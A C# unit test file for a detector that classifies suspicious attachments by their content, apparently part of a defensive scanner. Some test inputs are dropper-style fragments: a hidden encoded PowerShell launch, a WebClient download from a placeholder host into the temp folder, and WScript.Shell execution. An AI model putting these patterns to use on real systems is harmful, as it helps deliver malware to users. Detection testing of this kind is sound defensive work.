using System.Text;
using CsCheck;
using Lurewatch.Containers;
using Lurewatch.Files;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files;

public sealed class FileTypesTests
{
    [Theory]
    [InlineData("%PDF-1.7\n", FileType.Pdf)]
    [InlineData("{\\rt1", FileType.Rtf)]
    [InlineData("\u00ef\u00bb\u00bf <!-- x --> <!DOCTYPE html><p>", FileType.Html)]
    [InlineData("some junk that browsers skip\n<html><body>", FileType.Html)]
    [InlineData("<html><HTA:APPLICATION id=x><script>", FileType.Hta)]
    [InlineData("<?xml version=\"1.0\"?><!-- c --><svg xmlns=\"http://www.w3.org/2000/svg\"/>", FileType.Svg)]
    [InlineData("<?xml version='1.0'?><job><script language='JScript'>x()</script></job>", FileType.Wsf)]
    [InlineData("<?xml version='1.0'?><invoice/>", FileType.Xml)]
    [InlineData("[InternetShortcut]\r\nURL=http://a.example/\r\n", FileType.Url)]
    [InlineData("BEGIN:VCALENDAR\r\n", FileType.Ics)]
    [InlineData("ID;PWXL;N;E\r\n", FileType.Slk)]
    [InlineData("WEB\r\n1\r\nhttp://a.example/q\r\n", FileType.Iqy)]
    [InlineData("-----BEGIN PKCS7-----\n", FileType.Crypto)]
    [InlineData("@echo off\r\npowershell -w hidden -enc AAAA\r\n", FileType.Batch)]
    [InlineData("$a = New-Object Net.WebClient\n$a.DownloadFile('http://a.example/x', \"$env:TEMP\\x\")\n", FileType.PowerShell)]
    [InlineData("On Error Resume Next\r\nDim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\n", FileType.VbScript)]
    [InlineData("var s = new ActiveXObject('WScript.Shell'); function go() { return s.Run('x'); } go();", FileType.JavaScript)]
    [InlineData("#@~^DgAAAA==", FileType.EncodedScript)]
    [InlineData("#!/bin/sh\necho", FileType.Shell)]
    [InlineData("Attribute VB_Name = \"Module1\"\r\n", FileType.Vba)]
    [InlineData("Dear all, set the meeting; then we go. Set up on error: resume next week.\n", FileType.Txt)]
    [InlineData("{\"command\": \"@echo off\\r\\npowershell -enc AAAA; var x = new ActiveXObject('a');\"}", FileType.Txt)]
    [InlineData("name;amount\nA;12,50\nB;13,00\n", FileType.Txt)]
    [InlineData("!<arch>\nhello.txt       ", FileType.OtherArchive)]
    [InlineData("070701000000010000", FileType.OtherArchive)]
    [InlineData("LRZI\u0000\u0006\u0000\u0000\u0000", FileType.OtherArchive)]
    [InlineData("\u00ed\u00ab\u00ee\u00db\u0003\u0000\u0000\u0000", FileType.OtherArchive)]
    [InlineData("", FileType.Empty)]
    public void Text_is_told_by_what_it_says(string text, FileType type) => FileTypes.Detect(Encoding.Latin1.GetBytes(text)).ShouldBe(type);

    [Fact]
    public void Scripts_in_UTF_16_are_read_too()
    {
        const string Script = "On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\n";
        FileTypes.Detect([.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Script)]).ShouldBe(FileType.VbScript);
        FileTypes.Detect(Encoding.BigEndianUnicode.GetBytes(Script)).ShouldBe(FileType.VbScript);
    }

    [Fact]
    public void A_script_behind_a_wall_of_comment_is_found() =>
        FileTypes.Detect(Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("// padding padding\r\n", 3000)) + "var a = new ActiveXObject('WScript.Shell'); function f() { return a.Run('x'); } f();")).ShouldBe(FileType.JavaScript);

    [Theory]
    [InlineData("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", FileType.Docx)]
    [InlineData("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", FileType.Docm)]
    [InlineData("odd/place.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", FileType.Docm)]
    [InlineData("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", FileType.Xlsb)]
    [InlineData("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", FileType.Xlsx)]
    [InlineData("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml", FileType.Pptx)]
    [InlineData("ppt/vbaProject.bin", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", FileType.Pptm)]
    [InlineData("visio/document.xml", "application/vnd.ms-visio.drawing.main+xml", FileType.Opc)]
    public void A_package_is_told_by_its_content_types(string part, string contentType, FileType type)
    {
        var types = Encoding.UTF8.GetBytes($"<Types><Override PartName=\"/{part}\" ContentType=\"{contentType}\"/></Types>");
        foreach (var deflate in new[] { true, false })
            FileTypes.Detect(ZipWriter.Write([("[Content_Types].xml", types), (part, [1])], deflate: deflate)).ShouldBe(type);
    }

    [Theory]
    [InlineData("META-INF/MANIFEST.MF", FileType.Jar)]
    [InlineData("AndroidManifest.xml", FileType.Apk)]
    [InlineData("invoice.js", FileType.Zip)]
    public void Other_archives_are_told_by_their_names(string name, FileType type)
    {
        FileTypes.Detect(ZipWriter.Write([(name, [1, 2, 3])])).ShouldBe(type);
        FileTypes.Detect([.. new byte[64], .. ZipWriter.Write([(name, [1, 2, 3])])]).ShouldBe(type);
    }

    [Fact]
    public void A_sheet_inside_a_text_document_does_not_make_it_a_workbook()
    {
        FileTypes.Detect(CfbWriter.Write([("WordDocument", new byte[100]), ("ObjectPool/_1/Workbook", new byte[100])])).ShouldBe(FileType.Doc);
        FileTypes.Detect(CfbWriter.Write([("VBA/dir", new byte[100]), ("PROJECT", new byte[10])])).ShouldBe(FileType.VbaProject);
        FileTypes.Detect(CfbWriter.Write([("EncryptedPackage", new byte[5000]), ("EncryptionInfo", new byte[10])], version: 4)).ShouldBe(FileType.EncryptedOoxml);
        FileTypes.Detect(CfbWriter.Write([("x", new byte[10])], new Guid("000c1084-0000-0000-c000-000000000046"))).ShouldBe(FileType.Msi);
    }

    [Theory]
    [InlineData("pdf", FileType.Pe, true)]
    [InlineData("pdf", FileType.Html, true)]
    [InlineData("jpg", FileType.Png, false)]
    [InlineData("txt", FileType.JavaScript, false)]
    [InlineData("csv", FileType.Zip, true)]
    [InlineData("doc", FileType.Rtf, false)]
    [InlineData("doc", FileType.Pe, true)]
    [InlineData("zip", FileType.Rar, true)]
    [InlineData("zip", FileType.Docx, false)]
    [InlineData("strange", FileType.Pe, false)]
    [InlineData("pdf", FileType.Unknown, false)]
    [InlineData(null, FileType.Pe, false)]
    public void A_name_lies_when_the_content_is_of_another_family(string? extension, FileType type, bool lies) => FileTypes.Contradicts(extension, type).ShouldBe(lies);

    [Fact]
    public void Every_type_has_a_name_of_its_own_and_a_MIME_type()
    {
        var names = Enum.GetValues<FileType>().Select(FileTypes.Name).ToArray();
        names.ShouldBeUnique();
        names.ShouldAllBe(name => !name.Any(char.IsUpper));
        foreach (var type in Enum.GetValues<FileType>()) FileTypes.Mime(type).ShouldContain("/");
    }

    [Fact]
    public void No_bytes_make_it_throw() => Gen.Byte.Array[0, 2000].Sample(bytes => Enum.IsDefined(FileTypes.Detect(bytes)).ShouldBeTrue(), iter: 5000);
}
